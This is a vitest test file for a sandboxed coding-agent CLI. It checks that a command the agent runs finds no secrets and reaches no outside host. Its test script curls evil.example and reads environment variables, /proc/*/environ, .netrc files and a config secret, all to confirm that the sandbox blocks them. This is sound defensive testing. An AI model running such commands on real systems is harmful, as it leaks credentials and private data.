/** The real CLI in a sandbox: a home of its own, nobody to talk to but its provider, and what it was kept from is told. */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ClaudeWorld } from '../../../test/support/claude-world.ts';
import { isWithoutSandbox, needSandbox } from '../../../test/support/needs-sandbox.ts';
import { answerWith, useTool } from '../../../test/support/scripted-provider.ts';
import { rejectedCode } from '../../../test/support/thrown-code.ts';
import type { CodingReport, CodingTools } from '../../ports/coding-agent.ts';
import type { Sandbox } from '../../ports/sandbox.ts';
import { makeLocalSandbox } from '../sandbox/local-sandbox.ts';

let world: ClaudeWorld;
let sandbox: Sandbox;
beforeEach(async () => {
  world = await new ClaudeWorld().open();
  if (!isWithoutSandbox) sandbox = await needSandbox();
});
afterEach(() => world.close());

function work(
  tools: CodingTools,
  more: Record<string, string> = {},
  where = sandbox,
): Promise<CodingReport<unknown>> {
  const environment = world.environment({
    ANTHROPIC_API_KEY: 'sk-canary-1',
    GITHUB_TOKEN: 'gh-canary',
    ...more,
  });
  return world.makeAgent(environment, { sandbox: where }).work(
    {
      ...{
        role: 'coder',
        call: 1,
        folder: world.worktree,
        instructions: 'Work carefully.',
        task: 'Do it.',
        tools,
      },
      ...{ turnLimit: 5, limitMilliseconds: 60_000 },
    },
    null,
  );
}

const script = `#!/bin/sh
curl -sS -m 5 https://evil.example/
{ env; cat /proc/*/environ; cat ~/.netrc "$1"/.netrc "$1"/config/secret; ls "$1"; echo "home $HOME $CLAUDE_CONFIG_DIR"; } > out.txt 2>&1
`;

describe.skipIf(isWithoutSandbox)('in a sandbox', () => {
  it('a command of the agent finds no secret and reaches nobody else', async () => {
    writeFileSync(join(world.worktree, 'attack.sh'), script, { mode: 0o755 });
    writeFileSync(join(world.folder, '.netrc'), 'netrc-canary');
    mkdirSync(join(world.folder, 'config'));
    writeFileSync(join(world.folder, 'config', 'secret'), 'config-canary');
    const command = `./attack.sh ${world.folder}`;
    world.server.script = (seen, index) =>
      index === 0
        ? useTool(seen, { name: 'Bash', input: { command, description: 'A step' } })
        : answerWith(seen, 'Done.');
    const report = await work({ mode: 'implement', commands: ['./attack.sh *'] });
    expect(report.outcome).toMatchObject({ kind: 'finished', text: 'Done.' });
    expect(report.denials).toEqual([{ tool: 'network', target: 'evil.example:443' }]);
    const found = readFileSync(join(world.worktree, 'out.txt'), 'latin1');
    expect(found).toContain('home /home/worker /home/worker/.claude');
    expect(found).not.toContain('canary');
  });

  it('a provider that cannot be reached is an overload, not a secret way round', async () => {
    const report = await work({ mode: 'plan' }, { ANTHROPIC_BASE_URL: 'https://gateway.invalid' });
    expect(report.outcome).toMatchObject({ kind: 'failed', why: 'overload' });
    expect(world.server.seen).toEqual([]);
  });

  it('needs a credential that is not in a home', async () => {
    const ready = (more: Record<string, string>, where = sandbox) =>
      world.makeAgent(world.environment(more), { sandbox: where }).checkReady();
    expect(await ready({})).toContain('claude setup-token');
    expect(await ready({ ANTHROPIC_API_KEY: 'x' })).toBeNull();
    for (const name of ['bwrap', 'unshare'])
      writeFileSync(join(world.folder, name), '#!/bin/sh\nexit 1\n', { mode: 0o755 });
    const environment = { PATH: `${world.folder}:/usr/bin:/bin` };
    // Without a sandbox the home counts, and no account is logged in there.
    expect(await ready({}, makeLocalSandbox({ environment, demand: 'prefer' }))).toContain('not logged in');
    const required = makeLocalSandbox({ environment, demand: 'require' });
    expect(await rejectedCode(work({ mode: 'plan' }, {}, required))).toBe('sandbox-missing');
    expect(world.server.seen).toEqual([]);
  });
});
